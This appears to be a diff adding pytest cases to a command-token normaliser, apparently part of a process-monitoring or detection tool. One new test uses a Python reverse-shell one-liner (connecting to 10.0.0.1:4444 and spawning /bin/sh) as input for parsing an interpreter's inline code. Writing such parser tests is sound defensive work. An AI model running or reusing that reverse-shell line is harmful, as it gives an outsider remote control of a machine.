@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import pytest
 
-from streams.normalize import _normalize_part, normalize_token, script_commands, shell_script
+from streams.normalize import (
+    _normalize_part, code_words, interpreter_code, normalize_token, program_path, script_commands, shell_script,
+)
 
 
 @pytest.mark.parametrize(
@@ -20,6 +22,21 @@ from streams.normalize import _normalize_part, normalize_token, script_commands,
         ("build-4711", "build-<n>"),
         ("/usr/bin/Python3", "/usr/bin/python<n>"),
         ("--verbose", "--verbose"),
+        # issue 13: shapes that change on every run
+        ("app-2.4.11.tar.gz", "app-<ver>.tar.gz"),
+        ("tmp.Xq3kZ9", "tmp.<rnd>"),
+        ("verify.aB4cD1", "verify.<rnd>"),
+        ("/tmp/tmp.Ab3dEf/out", "/tmp/tmp.<rnd>/out"),  # one digit only
+        ("tmp.XqakZwPeRt", "tmp.<rnd>"),  # letters only, mktemp's ten
+        ("r12-3456", "r<n>-<n>"),
+        # … and words that are not random, kept
+        ("file.JavaScript", "file.javascript"),
+        ("x.McDonald", "x.mcdonald"),
+        ("tmp.abcdefghij", "tmp.abcdefghij"),
+        # options keep their case: -P and -p are different options
+        ("-P", "-P"),
+        ("-p", "-p"),
+        ("-R", "-R"),
     ],
 )
 def test_volatile_values_become_typed_placeholders(token: str, expected: str) -> None:
@@ -53,3 +70,20 @@ def test_shell_scripts_split_into_simple_commands() -> None:
     script = shell_script(argv)
     assert script is not None
     assert [words[0] for words in script_commands(script)] == ["curl", "bash", "rm", "echo", "id"]
+
+
+def test_merged_usr_aliases_are_one_program() -> None:
+    assert program_path("/bin/sh") == program_path("/usr/bin/sh") == "/usr/bin/sh"
+    assert program_path("/sbin/ip") == "/usr/sbin/ip"
+    assert program_path("/opt/bin/x") == "/opt/bin/x"
+
+
+def test_an_interpreters_inline_code_is_its_own_and_shell_scripts_stay_scripts() -> None:
+    code = "import socket,subprocess;s=socket.socket();s.connect(('10.0.0.1',4444));subprocess.call(['/bin/sh','-i'])"
+    assert interpreter_code("python3", ["python3", "-c", code]) == code
+    assert interpreter_code("python3.11", ["python3.11", "-u", "-c", code]) == code
+    assert interpreter_code("perl", ["perl", "-e", "print 1"]) == "print 1"
+    assert interpreter_code("sh", ["sh", "-c", "ls"]) is None and interpreter_code("python3", ["python3", "x.py"]) is None
+    words = code_words(code)
+    assert {"import", "socket", "subprocess", "socket.socket", "s.connect", "subprocess.call"} <= set(words)
+    assert not any("10.0.0.1" in w or "/bin/sh" in w for w in words)  # strings are not names
